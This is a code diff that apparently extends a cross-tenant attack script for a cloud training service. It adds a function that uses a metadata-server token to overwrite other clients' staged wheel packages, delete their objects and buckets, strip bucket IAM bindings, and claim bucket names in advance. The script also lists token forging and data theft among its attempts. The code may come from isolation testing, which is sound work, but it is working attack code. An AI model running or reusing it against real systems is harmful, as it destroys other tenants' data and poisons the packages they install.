@@ -478,6 +478,42 @@ def batch(place, token):
     return b'"secret"' in found and "a batch"
 
 
+def staged():
+    """Replace or delete what clients have staged for other projects, or make the bucket that they will be
+    given."""
+    token, own = metadata(ENDPOINT), TARGET["own_bucket"]
+    wheel = TARGET["staged"]
+    name = wheel.replace("/", "%2F")
+    for bucket in TARGET["staging"]:
+        path = f"/storage/v1/b/{bucket}/o/{name}"
+        pieces = {"sourceObjects": [{"name": wheel}, {"name": wheel}]}
+        writes = [
+            ("POST", f"/upload/storage/v1/b/{bucket}/o?uploadType=media&name={name}", b"mine"),
+            ("POST", f"/upload/storage/v1/b/{bucket}/o?uploadType=resumable&name={name}", {}),
+            ("POST", f"/storage/v1/b/{own}/o/mine/rewriteTo/b/{bucket}/o/{name}", {}),
+            ("POST", f"{path}/compose", pieces),
+            ("POST", f"{path}/moveTo/o/elsewhere", {}),
+            ("PUT", f"/{bucket}/{name}", b"mine"),
+            ("DELETE", path, None),
+            ("DELETE", f"/{bucket}/{name}", None),
+            ("DELETE", f"/storage/v1/b/{bucket}", None),
+            ("PATCH", path, {"metadata": {"mine": "1"}}),
+            ("PUT", f"/storage/v1/b/{bucket}/iam", {"bindings": []}),
+            ("POST", f"/storage/v1/b?project={TARGET['own_project']}", {"name": bucket}),
+        ]
+        for verb, path, body in writes:
+            for place, known in ((ENDPOINT, ""), (TARGET["storage_port"], token)):
+                with contextlib.suppress(http.client.HTTPException):
+                    status, _ = ask(place, verb, path, body, known)
+                    if status < 400:
+                        return f"{verb} {path}"
+        with contextlib.suppress(OSError):
+            with open(f"/gcs/{bucket}/{wheel}", "w") as file:
+                file.write("mine")
+            return f"/gcs/{bucket}"
+    return ""
+
+
 def steal(place, token):
     """Anything of the other bucket's by requests to a server."""
     for headers in ({}, {"X-Trainshed-Identity": IDENTITY}):
@@ -725,6 +761,7 @@ ATTEMPTS = {
     "bucket, ports": by_ports,
     "bucket, other endpoint": by_other_endpoint,
     "links in buckets": by_links,
+    "staged packages": staged,
     "API without a token": lambda: api(""),
     "API with its token": lambda: api(metadata(ENDPOINT)),
     "forged tokens": forged,
